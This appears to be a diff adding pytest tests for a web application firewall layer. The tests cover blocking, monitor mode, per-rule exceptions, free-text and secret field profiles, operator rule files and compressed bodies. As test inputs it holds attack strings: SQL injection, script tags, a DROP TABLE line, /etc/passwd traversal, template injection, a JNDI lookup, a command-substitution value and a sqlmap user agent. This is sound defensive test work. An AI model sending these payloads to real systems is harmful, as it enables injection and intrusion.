@@ -1,0 +1,246 @@
+"""The layer: what it answers, what it reports, its modes, exceptions, profiles and settings."""
+
+from __future__ import annotations
+
+import gzip
+import json
+import zlib
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from bsguard import ConfigError, Waf, guard
+from bsguard.core.config import Wanted
+from bsguard.standard import read_plan
+from bsguard.testing import environ, run
+from bsguard.waf.profiles import PROFILES, Profile
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+SQL = "' or '1'='1"
+JSON = {"Content-Type": "application/json"}
+
+
+def fine(request: Any, start_response: Any) -> list[bytes]:
+    request["wsgi.input"].read()
+    start_response("200 OK", [])
+    return [b"fine"]
+
+
+def judged(config: Any = None, *request: Any, **options: Any) -> tuple[str, list[Any]]:
+    events: list[Any] = []
+    common = {name: options.pop(name) for name in ("mode", "settings") if name in options}
+    answer = run(Waf(fine, config, emit=events.append, **common), environ(*request, **options))
+    return str(answer.status), events
+
+
+def posted(value: Any) -> dict[str, Any]:
+    return {"headers": JSON, "body": json.dumps(value).encode()}
+
+
+def test_an_attack_is_refused_and_told_without_its_text() -> None:
+    status, events = judged(None, "POST", "/v1/items", **posted({"q": SQL}))
+    assert status.startswith("403")
+    denied = next(event for event in events if event.name == "request.denied")
+    matched = next(event for event in events if event.name == "rule.matched")
+    assert (denied.rule, denied.code) == ("waf.102001", "BSE1201")
+    assert matched.variables == ("ARGS:json.q",)
+    assert SQL not in repr(events)
+
+
+def test_an_honest_request_passes_and_nothing_is_told() -> None:
+    status, events = judged(None, "POST", "/v1/items?a=O'Neil", **posted({"q": "1 or 2 things; it's fine"}))
+    assert status.startswith("200")
+    assert [event.name for event in events if event.name not in ("request.finished", "server.recognised")] == []
+
+
+@pytest.mark.parametrize(
+    ("request_", "status", "code"),
+    [
+        (("POST", "/", {"headers": JSON, "body": b'{"a": '}), "400", "BSE1202"),
+        (("POST", "/", {"headers": JSON, "body": b'{"a": "\xc0\xa7"}'}), "400", "BSE1202"),
+        (("POST", "/", {"headers": JSON, "body": b"[" * 300 + b"]" * 300}), "413", "BSE1203"),
+        (("POST", "/", {"headers": JSON, "body": json.dumps(list(range(5000))).encode()}), "413", "BSE1203"),
+        (("GET", "/?" + "&".join(f"a{number}=1" for number in range(5000)), {}), "413", "BSE1203"),
+        (("GET", "/?q=%3Cscript%3E", {}), "403", "BSE1201"),
+        (("GET", "/", {"headers": {"User-Agent": "sqlmap/1.7"}}), "403", "BSE1201"),
+    ],
+    ids=["broken JSON", "no UTF-8", "deep JSON", "many values", "many parameters", "script", "scanner"],
+)
+def test_every_refusal_has_its_status_and_code(request_: Any, status: str, code: str) -> None:
+    method, target, options = request_
+    answer, events = judged(None, method, target, **options)
+    assert answer.startswith(status)
+    assert [event.code for event in events if event.name == "request.denied"] == [code]
+
+
+def test_a_body_whose_type_nothing_reads_is_looked_at_as_text() -> None:
+    status, _ = judged(None, "POST", "/", headers={"Content-Type": "text/plain"}, body=b"x=<script>y</script>")
+    assert status.startswith("403")
+
+
+def test_monitoring_reports_and_lets_pass() -> None:
+    status, events = judged(None, "GET", f"/?q={SQL}", mode="monitor")
+    assert status.startswith("200")
+    assert [event.rule for event in events if event.name == "request.would_be_denied"] == ["waf.102001"]
+
+
+def test_a_single_rule_can_be_monitored_or_off() -> None:
+    for mode, name in (("monitor", "rule.matched"), ("off", "")):
+        status, events = judged({"RULE_MODES": {"waf.114002": mode}}, "GET", "/?q=javascript:x")
+        assert status.startswith("200")
+        assert (name in [event.name for event in events]) == bool(name)
+
+
+def test_an_exception_takes_one_rule_from_one_parameter() -> None:
+    one = {"rule": "waf.102001", "parameter": "ARGS:q", "path": "/search", "comment": "a console for SQL"}
+    settings = {"EXCEPTIONS": [one]}
+    assert judged(None, "GET", f"/search?q={SQL}", settings=settings)[0].startswith("200")
+    assert judged(None, "GET", f"/search?p={SQL}", settings=settings)[0].startswith("403")
+    assert judged(None, "GET", f"/other?q={SQL}", settings=settings)[0].startswith("403")
+    assert judged(None, "GET", "/search?q=<script>", settings=settings)[0].startswith("403")
+
+
+CODE = "SELECT * FROM users WHERE id = 1 OR 1=1; DROP TABLE x; -- <script>alert('../../etc/passwd')</script> {{7*7}}"
+
+
+@pytest.mark.parametrize(
+    ("parameter", "value"),
+    [
+        ("prompt", {"prompt": CODE}),
+        ("messages.*.content", {"messages": [{"content": "hi"}, {"content": CODE}]}),
+        ("form.comment", {"form": {"comment": CODE}}),
+        ("*.comment", {"form": {"comment": CODE}}),
+        ("ARGS:prompt", {"prompt": CODE}),
+    ],
+)
+def test_a_field_for_free_text_takes_what_people_write_about_programs(parameter: str, value: Any) -> None:
+    config = {"PROFILES": [{"path": "/v1/**", "parameter": parameter, "profile": "free_text"}]}
+    assert judged(config, "POST", "/v1/x", **posted(value))[0].startswith("200")
+    assert judged(config, "POST", "/v2/x", **posted(value))[0].startswith("403")
+    assert judged(config, "POST", "/v1/x", **posted({"other": CODE}))[0].startswith("403")
+
+
+def test_free_text_is_still_held_to_the_rules_that_can_work_there() -> None:
+    config = {"PROFILES": [{"parameter": "prompt", "profile": "free_text"}]}
+    for attack in ("${jndi:ldap://x.example/a}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA=="):
+        assert judged(config, "POST", "/", **posted({"prompt": attack}))[0].startswith("403")
+
+
+def test_a_secret_may_hold_any_sign() -> None:
+    config = {
+        "PROFILES": [
+            {"parameter": "password", "profile": "secret"},
+            {"parameter": "REQUEST_COOKIES:t", "profile": "secret"},
+        ]
+    }
+    odd = "x' or '1'='1;|`id`"
+    assert judged(config, "POST", "/", **posted({"password": odd}))[0].startswith("200")
+    assert judged(config, "GET", "/", headers={"Cookie": "t=x'--;"})[0].startswith("200")
+    assert judged(config, "POST", "/", **posted({"name": odd}))[0].startswith("403")
+
+
+def test_each_profile_leaves_out_rules_and_keeps_rules() -> None:
+    rules = [rule for rule in Waf(fine).rule_set.program.rules if rule.log]
+    for tag in PROFILES.values():
+        left = [rule for rule in rules if tag in rule.tags]
+        assert 0 < len(left) < len(rules)
+
+
+@pytest.mark.parametrize(
+    "item",
+    [
+        "x",
+        {},
+        {"parameter": "x"},
+        {"profile": "free_text"},
+        {"parameter": "", "profile": "secret"},
+        {"parameter": "*", "profile": "secret"},
+        {"parameter": "x", "profile": "nope"},
+        {"parameter": "x", "profile": "secret", "more": 1},
+        {"parameter": "x", "profile": "secret", "path": "v1"},
+        {"parameter": 5, "profile": "secret"},
+        {"parameter": "x", "profile": ["secret"]},
+    ],
+)
+def test_a_wrong_profile_is_told(item: object) -> None:
+    with pytest.raises(Wanted):
+        Profile.parse(item)
+
+
+OWN = """
+# Loopback addresses: our importer fetches what clients name.
+SecRule ARGS "@rx (?i)^https?://(?:localhost|127\\.0\\.0\\.1)(?:[:/]|$)" \\
+    "id:900001,phase:2,block,t:unwrap,severity:CRITICAL,msg:'Loopback address',tag:'own'"
+"""
+
+
+def test_rule_files_of_the_operator_come_on_top(tmp_path: Path) -> None:
+    (tmp_path / "own.conf").write_text(OWN)
+    config = {"RULES": [str(tmp_path / "own.conf")]}
+    for target, status in (
+        ("/?u=http://localhost:6379/", "403"),
+        ("/?q=<script>", "403"),
+        ("/?u=http://example.com", "200"),
+    ):
+        assert judged(config, "GET", target)[0].startswith(status)
+    alone = {**config, "DEFAULTS": False}
+    assert judged(alone, "GET", "/?u=http://localhost/")[0].startswith("403")
+    assert judged(alone, "GET", "/?q=<script>")[0].startswith("200")
+    watched = {**config, "RULE_MODES": {"waf.900001": "monitor"}}
+    assert judged(watched, "GET", "/?u=http://localhost/")[0].startswith("200")
+
+
+def test_without_any_rule_the_layer_has_nothing_to_do() -> None:
+    assert judged({"DEFAULTS": False}, "GET", "/?q=<script>")[0].startswith("200")
+    assert "waf" not in read_plan({"WAF_DEFAULTS": False}).used
+
+
+def test_every_problem_of_the_settings_is_told_at_once(tmp_path: Path) -> None:
+    (tmp_path / "broken.conf").write_text(
+        'SecRule ARGS "@rx (" "id:900001,phase:2,deny"\nSecRule ARGS "@nope x" "id:900002,phase:2,deny"\n'
+    )
+    with pytest.raises(ConfigError) as caught:
+        read_plan({"WAF_RULES": [str(tmp_path / "broken.conf")], "WAF_PROFILES": [{}], "WAF_DEFAULTS": "perhaps"})
+    text = str(caught.value)
+    for part in ("WAF_PROFILES", "WAF_DEFAULTS"):
+        assert part in text
+    with pytest.raises(ConfigError) as caught:
+        read_plan({"WAF_RULES": [str(tmp_path / "broken.conf")]})
+    assert str(caught.value).count("broken.conf") == 2
+    for values, part in (
+        ({"WAF_RULE_MODES": {"waf.102oo1": "off"}}, "102001"),
+        ({"WAF_RULE_MODES": {"waf.999999": "off"}}, "names a rule that there is not"),
+        ({"WAF_RULES": [str(tmp_path / "none.conf")]}, "none.conf"),
+        ({"EXCEPTIONS": [{"rule": "waf.102001", "parameter": "ARG:q", "comment": "x"}]}, "ARGS"),
+    ):
+        with pytest.raises(ConfigError, match="1 problem") as caught:
+            read_plan(values)
+        assert part in str(caught.value)
+
+
+def test_it_stands_behind_the_protocol_layer_in_a_guard(tmp_path: Path) -> None:
+    events: list[Any] = []
+    made = guard(
+        fine, {"MODE": "enforce", "STATE_DIR": str(tmp_path), "LAYERS": ["protocol", "waf"]}, emit=events.append
+    )
+    assert run(made, environ("GET", "/v1/x?q=%3Cscript%3E")).status == 403
+    assert [event.rule for event in events if event.name == "request.denied"] == ["waf.114001"]
+
+
+@pytest.mark.parametrize("coding", ["gzip", "deflate", "GZIP"])
+def test_a_compressed_body_is_looked_into(coding: str) -> None:
+    def sent(value: Any) -> dict[str, Any]:
+        text = json.dumps(value).encode()
+        body = zlib.compress(text) if coding == "deflate" else gzip.compress(text)
+        return {"headers": {**JSON, "Content-Encoding": coding}, "body": body}
+
+    assert judged(None, "POST", "/", **sent({"q": SQL}))[0] == "403"
+    assert judged(None, "POST", "/", **sent({"q": "fine"}))[0] == "200"
+    assert judged(None, "POST", "/", **sent({"q": "x" * 10_000_000}))[0] == "413"
+
+
+def test_a_body_that_only_says_it_is_compressed_is_looked_at_as_it_is() -> None:
+    headers = {**JSON, "Content-Encoding": "gzip"}
+    assert judged(None, "POST", "/", headers=headers, body=json.dumps({"q": SQL}).encode())[0] == "403"
